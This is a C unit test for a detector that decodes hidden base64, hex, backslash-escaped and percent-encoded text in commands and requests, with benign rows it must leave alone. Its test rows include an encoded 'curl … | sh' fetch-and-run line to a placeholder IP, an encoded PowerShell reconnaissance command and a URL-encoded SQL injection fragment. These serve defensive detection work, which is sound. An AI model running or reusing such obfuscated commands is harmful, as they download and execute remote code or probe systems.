#include "parse/hidden.h"

#include "check.h"

struct expected {
    const char *text;
    const char *how; /* NULL: nothing is hidden */
    const char *decoded;
};

static void what_is_hidden_is_found_and_ordinary_text_is_not(void **state)
{
    (void)state;
    static const struct expected rows[] = {
        {"echo Y3VybCBodHRwOi8vMTkyLjAuMi4xMC94IHwgc2gK | base64 -d", "base64",
         "curl http://192.0.2.10/x | sh\n"},
        {"powershell -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==", "base64", "whoami /all"},
        {"printf 6375726c20687474703a2f2f612f78", "hexadecimal numbers", "curl http://a/x"},
        {"printf '\\x6c\\x73\\x20\\x2d\\x6c\\x61'", "backslash signs", "ls -la"},
        {"GET /?q=%75%6e%69%6f%6e%20%73%65%6c%65%63%74", "percent signs", "union select"},
        {"ls -la /usr/share/documentation", NULL, NULL},
        {"sha256sum: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", NULL,
         NULL},
        {"/usr/lib/systemd/systemd-networkd-wait-online", NULL, NULL},
        {"GET /a%20b%20c", NULL, NULL},
        {"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", NULL, NULL},
        {"", NULL, NULL},
    };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        AUTO(arena_done) struct arena *arena = arena_new(4 << 20);
        size_t from = 0;
        struct hidden hidden = {0};
        bool is_found = hidden_next(bytes_of_text(rows[i].text), &from, arena, &hidden);
        if (is_found != (rows[i].how != NULL)) {
            fail_msg("%s: %s", rows[i].text, is_found ? hidden.how : "nothing");
        }
        if (is_found) {
            size_t at = rows[i].text[0] == 'G'
                            ? bytes_find_byte(bytes_of_text(rows[i].text), '%')
                            : hidden.offset;
            assert_string_equal(hidden.how, rows[i].how);
            assert_int_equal(hidden.offset, at);
            assert_bytes(hidden.text, rows[i].decoded);
        }
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_is_hidden_is_found_and_ordinary_text_is_not),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
